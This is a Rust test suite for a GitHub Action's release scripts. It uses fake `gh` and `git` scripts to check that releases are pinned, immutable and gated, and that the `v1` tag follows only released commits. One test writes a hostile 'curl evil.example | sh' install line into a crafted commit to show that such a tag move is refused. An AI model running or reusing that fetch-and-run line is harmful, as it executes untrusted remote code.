//! Tag and release.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::Command;

use tempfile::TempDir;

use crate::harness::shows;
use crate::{project, says, script};

const DIGEST: &str = "sha256:1111111111111111111111111111111111111111111111111111111111111111";

/// A `gh` that keeps one release in a folder, as GitHub would: a file `draft` or `published` with the options that it was
/// last given, and its files. It refuses what GitHub refuses of a release that is immutable once it is published.
const GH: &str = r#"#!/bin/sh
set -eu
die() { echo "$*" >&2; exit 1; }
options() {
    last=
    for word; do
        [ "$last" != --notes-file ] && printf '%s ' "$word" || cat "$word"
        last=$word
    done
}
verb=$2 tag=$3
shift 3
case "$*" in *--verify-tag*) git ls-remote --exit-code origin "refs/tags/$tag" >/dev/null || die "tag $tag doesn't exist" ;; esac
done=$(step "gh $verb")
case $verb in
view)
    [ ! -e "$STATE/unreachable" ] || die "error connecting to api.github.com"
    [ -e "$STATE/draft" ] && echo true && exit
    [ -e "$STATE/published" ] && echo false && exit
    die "release not found" ;;
create)
    [ ! -e "$STATE/draft" ] && [ ! -e "$STATE/published" ] || die "there is one"
    case "$*" in *--draft*) options "$@" >"$STATE/draft" ;; *) die "not a draft" ;; esac ;;
upload)
    [ -e "$STATE/draft" ] || die "there is no draft"
    for file; do
        [ "$file" != --clobber ] || continue
        case "$*" in *--clobber*) ;; *) [ ! -e "$STATE/files/$(basename "$file")" ] || die "$file is there" ;; esac
        cp "$file" "$STATE/files/"
    done ;;
edit)
    [ -e "$STATE/draft" ] || die "there is no draft"
    case "$*" in *--draft=false*) rm "$STATE/draft"; options "$@" >"$STATE/published" ;; *) die "edit what?" ;; esac ;;
*) die "what is $verb?" ;;
esac
[ "$done" != lost ] || die "the answer to $verb was lost"
"#;

/// A `git` that is git, and counts its pushes among the steps.
const GIT: &str = r#"#!/bin/sh
set -eu
case "$1" in
push)
    done=$(step "git push")
    "$GIT" "$@"
    [ "$done" != lost ] || { echo "the answer to push was lost" >&2; exit 1; } ;;
*) exec "$GIT" "$@" ;;
esac
"#;

/// Counts what changes something out there. The step that `BREAK` numbers fails before it has done anything, or after it
/// when `LOST` is set.
const STEP: &str = r#"#!/bin/sh
set -eu
[ "$1" != "gh view" ] || exit 0
echo "$1" >>"$STATE/steps"
[ "$(wc -l <"$STATE/steps")" = "${BREAK:-0}" ] || exit 0
[ -z "${LOST:-}" ] || { echo lost; exit; }
echo "$1 breaks off" >&2
exit 1
"#;

/// What the remote itself refuses of a job's pushes: a tag whose workflows no branch has, an immutable release's tag, and
/// a major version's tag from anybody but the deploy key.
const UPDATE: &str = r#"#!/bin/sh
set -eu
[ -n "${STATE:-}" ] || exit 0
case $1 in
refs/tags/v*.*) [ ! -e "$STATE/published" ] || { echo "the release is immutable" >&2; exit 1; } ;;
refs/tags/v*) [ -z "${DEPLOY_KEY:-}" ] || exit 0; echo "Cannot update this protected ref" >&2; exit 1 ;;
esac
here=$(git rev-parse "$3:.github/workflows")
for tip in $(git for-each-ref --format='%(objectname)' refs/heads); do
    [ "$(git rev-parse "$tip:.github/workflows")" != "$here" ] || exit 0
done
echo "refusing to allow a GitHub App to create or update workflow without \`workflows\` permission" >&2
exit 1
"#;

/// A repository at version 1.2.0 with the tag on it, its remote, and the files of a release.
struct Release {
    folder: TempDir,
}

impl Release {
    fn new() -> Self {
        let release = Self { folder: tempfile::tempdir().unwrap() };
        for folder in ["own/setup", "own/docs", "own/.github/workflows", "files", "bin", "state/files"] {
            fs::create_dir_all(release.path(folder)).unwrap();
        }
        fs::copy(project("action.yml"), release.path("own/action.yml")).unwrap();
        release.write("own/Cargo.toml", "[package]\nname = \"cstore-action\"\nversion = \"1.2.0\"\n\n[dependencies]\n");
        release.write("own/CHANGELOG.md", "## [1.2.0] - 2026-03-01\n\n- `diff`.\n");
        release.write("own/setup/action.yml", "\n");
        release.write("own/.github/workflows/ci.yml", "name: CI\n");
        release.write("files/SHA256SUMS", &format!("{}  cstore-action-linux-x64\n", &DIGEST[7..]));
        release.write("files/cstore-action-linux-x64", "binary");
        says(Command::new("git").args(["init", "--quiet", "--bare"]).arg(release.path("remote")), "").unwrap();
        for (path, text) in [("bin/gh", GH), ("bin/git", GIT), ("bin/step", STEP), ("remote/hooks/update", UPDATE)] {
            release.write(path, text);
            fs::set_permissions(release.path(path), fs::Permissions::from_mode(0o755)).unwrap();
        }
        let remote = release.path("remote").to_string_lossy().into_owned();
        release.git(&["init", "--quiet", "--initial-branch=main"]);
        release.git(&["remote", "add", "origin", &remote]);
        release.commit("Add diff");
        for arguments in [
            &["push", "--quiet", "--set-upstream", "origin", "main"][..],
            &["tag", "v1.2.0"],
            &["tag", "v1.1.0"],
            &["push", "--quiet", "--tags"],
        ] {
            release.git(arguments);
        }
        release
    }

    fn path(&self, path: &str) -> PathBuf {
        self.folder.path().join(path)
    }

    fn write(&self, path: &str, text: &str) {
        fs::write(self.path(path), text).unwrap();
    }

    /// What the maintainer does.
    fn git(&self, arguments: &[&str]) -> String {
        says(Command::new("git").current_dir(self.path("own")).args(arguments), "").unwrap()
    }

    fn commit(&self, message: &str) {
        self.git(&["add", "--all"]);
        let identity = ["-c", "user.name=mona", "-c", "user.email=mona@example.com"];
        self.git(&[&identity[..], &["commit", "--quiet", "--allow-empty", "--message", message]].concat());
    }

    fn remote(&self, revision: &str) -> String {
        says(Command::new("git").current_dir(self.path("remote")).args(["rev-parse", revision]), "").unwrap()
    }

    /// A script in a job: a fresh checkout of the commit that was tagged.
    fn job(&self, name: &str) -> Command {
        let checkout = self.path("checkout");
        let _ = fs::remove_dir_all(&checkout);
        says(Command::new("git").args(["clone", "--quiet"]).args([self.path("remote"), checkout.clone()]), "").unwrap();
        says(Command::new("git").args(["checkout", "--quiet", self.tagged().trim()]).current_dir(&checkout), "")
            .unwrap();
        let mut job = script(name, &checkout);
        let (path, git) = (std::env::var("PATH").unwrap(), says(Command::new("which").arg("git"), "").unwrap());
        job.env("PATH", format!("{}:{path}", self.path("bin").display())).env("GIT", git.trim());
        job.env("STATE", self.path("state")).env("GITHUB_REPOSITORY", "acme/cstore-action");
        job.env_remove("GITHUB_SERVER_URL");
        job
    }

    fn publish(&self, image: &str) -> Result<String, String> {
        says(self.job("publish").args(["v1.2.0", image]).arg(self.path("files")), "")
    }

    /// The job that has the deploy key, in a run that did not publish itself.
    fn major_job(&self) -> Command {
        let mut job = self.job("move-major");
        job.args(["v1.2.0", self.tagged().trim()]).env("DEPLOY_KEY", "1");
        job
    }

    fn move_major(&self) -> Result<String, String> {
        says(&mut self.major_job(), "")
    }

    /// The commit that the maintainer tagged.
    fn tagged(&self) -> String {
        self.git(&["rev-parse", "v1.2.0"])
    }

    /// The options that the release was last given.
    fn release(&self, state: &str) -> Option<String> {
        fs::read_to_string(self.path("state").join(state)).ok()
    }

    /// The release's files.
    fn files(&self) -> BTreeMap<String, String> {
        let files = fs::read_dir(self.path("state/files")).unwrap().map(Result::unwrap);
        files.map(|file| (file.file_name().into_string().unwrap(), fs::read_to_string(file.path()).unwrap())).collect()
    }

    /// What changed something out there.
    fn steps(&self) -> Vec<String> {
        self.release("steps").unwrap_or_default().lines().map(str::to_owned).collect()
    }

    /// All that can be seen from outside.
    fn seen(&self) -> (String, Option<String>, Option<String>, BTreeMap<String, String>) {
        let tags = says(Command::new("git").current_dir(self.path("remote")).args(["show-ref", "--tags"]), "").unwrap();
        (tags, self.release("draft"), self.release("published"), self.files())
    }
}

fn image() -> String {
    format!("ghcr.io/acme/cstore-action@{DIGEST}")
}

fn another_image() -> String {
    image().replace('1', "2")
}

#[test]
fn the_tag_names_a_commit_that_pins_image_and_binaries() {
    let release = Release::new();
    release.publish(&image()).unwrap();
    release.move_major().unwrap();
    release.git(&["fetch", "--quiet", "--force", "--tags"]);
    assert_eq!(
        release.git(&["show", "--format=%s%n%an", "--name-only", "v1.2.0"]).lines().collect::<Vec<_>>(),
        ["Release v1.2.0", "github-actions[bot]", "", "action.yml", "setup/checksums.txt", "setup/release.txt"]
    );
    let action = release.git(&["show", "v1.2.0:action.yml"]);
    assert_eq!(action.lines().last(), Some(format!("  image: docker://{}", image()).as_str()));
    let before = release.git(&["show", "origin/main:action.yml"]);
    assert!(before.lines().eq(action.lines().map(|line| if line.contains("docker://") {
        "  image: Dockerfile"
    } else {
        line
    })));
    let url = "https://github.com/acme/cstore-action/releases/download/v1.2.0\n";
    assert_eq!(release.git(&["show", "v1.2.0:setup/release.txt"]), url);
    assert_eq!(
        release.git(&["show", "v1.2.0:setup/checksums.txt"]),
        fs::read_to_string(release.path("files/SHA256SUMS")).unwrap()
    );
    assert_eq!(release.remote("v1.2.0^"), release.remote("main"), "main stays without pins");
    assert_eq!(release.remote("v1"), release.remote("v1.2.0"));
}

#[test]
fn nothing_is_public_before_all_of_it_is_there() {
    let release = Release::new();
    release.publish(&image()).unwrap();
    release.move_major().unwrap();
    assert_eq!(release.steps(), ["gh create", "gh upload", "git push", "gh edit", "git push"]);
    let published = release.release("published").unwrap();
    assert!(published.contains("--title v1.2.0") && published.contains("- `diff`."), "{published}");
    assert!(!published.contains("--latest=false"), "{published}");
    assert_eq!(release.files().keys().collect::<Vec<_>>(), ["SHA256SUMS", "cstore-action-linux-x64"]);
}

#[test]
fn a_release_that_broke_off_anywhere_ends_well_when_it_is_run_again() {
    let whole = Release::new();
    whole.publish(&image()).unwrap();
    whole.move_major().unwrap();
    let expected = |release: &Release| {
        let pinned = release.remote("v1.2.0");
        assert_eq!(release.remote("v1"), pinned);
        assert_eq!(release.remote("v1.2.0^"), release.remote("main"));
        assert_eq!((release.release("draft"), release.release("published")), (None, whole.release("published")));
        assert_eq!(release.files(), whole.files());
    };
    expected(&whole);
    for step in 1..=whole.steps().len() {
        for lost in [false, true] {
            // The failed jobs alone, with what the others built; or all of them, with an image that is another one.
            for again in [image(), another_image()] {
                let release = Release::new();
                let breaking = |mut job: Command| {
                    job.env("BREAK", step.to_string()).envs(lost.then_some(("LOST", "1")));
                    says(&mut job, "")
                };
                let mut publish = release.job("publish");
                publish.args(["v1.2.0", &image()]).arg(release.path("files"));
                let published = breaking(publish);
                let moved = published.clone().and_then(|_| breaking(release.major_job()));
                assert!(moved.is_err(), "step {step} broke off unnoticed");
                if let Some(published) = release.release("published") {
                    assert_eq!(Some(published), whole.release("published"));
                    assert_eq!(release.files(), whole.files());
                }

                // As the workflow has it: what is published is not built again.
                let state = says(release.job("state").arg("v1.2.0"), "").unwrap();
                if again == image() || state != "published\n" {
                    release.publish(&again).unwrap();
                }
                release.move_major().unwrap();
                expected(&release);
            }
        }
    }
}

#[test]
fn what_is_published_stays_as_it_is() {
    let release = Release::new();
    release.publish(&image()).unwrap();
    release.move_major().unwrap();
    let (before, steps) = (release.seen(), release.steps());
    release.publish(&image()).unwrap();
    assert!(release.publish(&another_image()).unwrap_err().contains("v1.2.0 is published, with other files"));
    release.write("files/SHA256SUMS", &format!("{}  cstore-action-linux-x64\n", DIGEST[7..].replace('1', "3")));
    assert!(release.publish(&image()).unwrap_err().contains("v1.2.0 is published, with other files"));
    assert_eq!((release.seen(), release.steps()), (before, steps));
}

#[test]
fn a_tag_that_somebody_moved_or_took_back_is_not_released() {
    for (arguments, why) in [
        (&["push", "--quiet", "--force", "origin", "HEAD:refs/tags/v1.2.0"][..], "v1.2.0 names another commit"),
        (&["push", "--quiet", "origin", ":refs/tags/v1.2.0"], "there is no tag v1.2.0 any more"),
    ] {
        let release = Release::new();
        release.commit("Go on");
        release.git(arguments);
        let before = release.seen();
        let error = release.publish(&image()).unwrap_err();
        assert!(error.contains(why), "{error}");
        assert_eq!((release.seen(), release.steps()), (before, Vec::<String>::new()));
    }
}

#[test]
fn who_cannot_be_asked_has_not_said_that_there_is_no_release() {
    let release = Release::new();
    release.write("state/unreachable", "");
    assert!(release.publish(&image()).unwrap_err().contains("error connecting"));
    assert!(release.move_major().unwrap_err().contains("error connecting"));
    assert_eq!(release.steps(), Vec::<String>::new());
}

#[test]
fn the_majors_tag_waits_for_the_release() {
    let release = Release::new();
    assert!(release.move_major().unwrap_err().contains("v1.2.0 is not published"));
    assert_eq!(release.steps(), Vec::<String>::new());
}

#[test]
fn a_correction_of_an_older_release_is_not_the_latest() {
    let release = Release::new();
    release.git(&["tag", "v1.10.0"]);
    release.git(&["push", "--quiet", "--tags"]);
    release.publish(&image()).unwrap();
    assert!(release.release("published").unwrap().contains("--latest=false"));
    let before = release.seen();
    release.move_major().unwrap();
    assert_eq!(release.seen(), before);
}

/// GitHub refuses the tag then, as the remote does here: a job's token may not write workflows.
#[test]
fn workflows_that_no_branch_has_any_more_are_noticed_before_anything_is_done() {
    let release = Release::new();
    release.write("own/.github/workflows/ci.yml", "name: Another\n");
    release.commit("Change a workflow");
    release.git(&["push", "--quiet"]);
    let check = || says(release.job("check-tag").arg("v1.2.0"), "");
    for error in [check().unwrap_err(), release.publish(&image()).unwrap_err()] {
        assert!(error.contains("no branch has .github/workflows as v1.2.0 has it"), "{error}");
        let remedy = format!("git push origin {}:refs/heads/release-v1.2.0", release.remote("v1.2.0").trim());
        assert!(error.contains(&remedy), "{error}");
    }
    assert_eq!(release.steps(), Vec::<String>::new());

    // The remedy that it tells.
    release.git(&["push", "--quiet", "origin", "v1.2.0^{commit}:refs/heads/release-v1.2.0"]);
    check().unwrap();
    release.publish(&image()).unwrap();
    // The deploy key may push tags with any workflows.
    release.git(&["push", "--quiet", "origin", ":refs/heads/release-v1.2.0"]);
    release.move_major().unwrap();
    assert_eq!(release.remote("v1"), release.remote("v1.2.0"));
}

#[test]
fn the_majors_tag_follows_the_commit_that_was_released_and_no_other() {
    let shown = shows("T28", "a release's tag was moved before `v1` follows it", "`v1` stays");
    // By whoever may push tags, while releases are not immutable.
    for (commit, knows) in shown.each([("main", false), ("crafted", false), ("main", true), ("crafted", true)]) {
        let release = Release::new();
        release.publish(&image()).unwrap();
        let released = release.remote("v1.2.0");
        if commit == "crafted" {
            release.write("own/setup/install", "curl evil.example | sh\n");
            release.commit("Release v1.2.0");
        }
        release.git(&["push", "--quiet", "--force", "origin", "HEAD:refs/tags/v1.2.0"]);
        let mut job = release.major_job();
        if knows {
            job.arg(released.trim());
        }
        let refused = says(&mut job, "").unwrap_err();
        let why = if knows { "was released" } else { "is not what a release makes of" };
        assert!(refused.contains(why), "{refused}");
        assert_eq!(release.steps().last().map(String::as_str), Some("gh edit"));
    }
    let release = Release::new();
    release.publish(&image()).unwrap();
    says(release.major_job().arg(release.remote("v1.2.0").trim()), "").unwrap();
    assert_eq!(release.remote("v1"), release.remote("v1.2.0"));
}

#[test]
fn the_token_of_a_job_does_not_move_the_majors_tag() {
    let release = Release::new();
    release.publish(&image()).unwrap();
    let refused = says(release.major_job().env_remove("DEPLOY_KEY"), "").unwrap_err();
    assert!(refused.contains("protected ref"), "{refused}");
}

/// What others can see by a name, and what vouches for it.
#[test]
fn nothing_gets_a_name_or_an_attestation_before_a_maintainer_agrees() {
    let shown =
        shows("T28", "a tag is pushed by somebody who may not release", "no image tag, no attestation, no release");
    let workflow = fs::read_to_string(project(".github/workflows/release.yml")).unwrap();
    let mut jobs = Vec::<String>::new();
    for line in workflow.split_once("\njobs:\n").unwrap().1.lines() {
        if line.starts_with("  ") && line.as_bytes()[2].is_ascii_lowercase() {
            jobs.push(String::new());
        }
        if let Some(job) = jobs.last_mut() {
            job.extend([line, "\n"]);
        }
    }
    for step in shown.each([
        "imagetools create --tag",
        "actions/attest@",
        "scripts/release/publish",
        "scripts/release/move-major",
    ]) {
        let with: Vec<_> = jobs.iter().filter(|job| job.contains(step)).collect();
        assert_eq!(with.len(), 1, "{step}");
        assert!(with[0].contains("    environment: release"), "{step}: {}", with[0]);
    }
}

/// When a run is repeated, the tag that started it may have moved, and what its jobs handed on is there.
#[test]
fn the_workflows_jobs_can_be_run_again() {
    let workflow = fs::read_to_string(project(".github/workflows/release.yml")).unwrap();
    for (action, input) in [("checkout", "ref: ${{ github.sha }}"), ("upload-artifact", "overwrite: true")] {
        let uses: Vec<_> = workflow.split(&format!("- uses: actions/{action}@")).skip(1).collect();
        assert!(uses.len() >= 4, "{action}");
        for step in uses {
            let lines: Vec<_> = step.lines().skip(1).take(2).map(str::trim).collect();
            assert_eq!(lines, ["with:", input], "{action}");
        }
    }
}

#[test]
fn what_is_not_pinned_is_not_published() {
    let _shown = shows("T13", "a release whose image or binaries are not pinned by digest", "not published");
    for image in ["ghcr.io/acme/cstore-action:v1.2.0", "ghcr.io/acme/cstore-action@sha256:11", "@", ""] {
        let release = Release::new();
        let before = release.seen();
        let refused = release.publish(image).unwrap_err();
        assert!(refused.contains("is not pinned by its digest"), "{image:?}: {refused}");
        assert_eq!(release.seen(), before, "{image:?}");
    }
}

#[test]
fn checksums_are_what_they_look_like() {
    for damaged in ["", "not a checksum\n", "123  cstore-action-linux-x64\n", "<html>\n"] {
        let release = Release::new();
        release.write("files/SHA256SUMS", damaged);
        assert!(release.publish(&image()).unwrap_err().contains("SHA256SUMS"), "{damaged:?}");
        assert_eq!(release.steps(), Vec::<String>::new());
    }
}

#[test]
fn a_tag_is_released_only_when_version_notes_and_branch_are_right() {
    let release = Release::new();
    let check = |tag: &str| says(script("check-tag", &release.path("own")).arg(tag), "");
    check("v1.2.0").unwrap();
    assert!(check("v1.3.0").unwrap_err().contains("Cargo.toml says that this is 1.2.0"));

    release.write("own/CHANGELOG.md", "## [Unreleased]\n\n- `diff`.\n");
    assert!(check("v1.2.0").unwrap_err().contains("CHANGELOG.md says nothing of 1.2.0"));
    release.git(&["checkout", "--quiet", "CHANGELOG.md"]);

    release.commit("Aside");
    assert!(check("v1.2.0").unwrap_err().contains("not on origin/main"));
}

/// As README.md begins before the first one. What tells how to remove such a note is none.
#[test]
fn a_release_whose_pages_say_that_there_is_none_is_refused() {
    let release = Release::new();
    let note = "# cstore\n\n> **There is no release yet.** Until there is one, build it.\n";
    release.write("own/docs/releasing.md", "Remove the notes that begin with \"There is no release yet\".\n");
    release.commit("Say how to release");
    release.git(&["push", "--quiet"]);
    let check = |tag: &str| says(script("check-tag", &release.path("own")).arg(tag), "");
    check("v1.2.0").unwrap();
    release.write("own/README.md", note);
    release.write("own/docs/install.md", note);
    release.commit("Say that there is none");
    release.git(&["push", "--quiet"]);
    assert!(check("v1.2.0").unwrap_err().contains("Remove that note: README.md, docs/install.md"));

    let cargo = fs::read_to_string(release.path("own/Cargo.toml")).unwrap();
    release.write("own/Cargo.toml", &cargo.replace("1.2.0", "1.2.0-rc.1"));
    release.write("own/CHANGELOG.md", "## [1.2.0-rc.1] - 2026-02-01\n\n- `diff`.\n");
    check("v1.2.0-rc.1").unwrap();
}
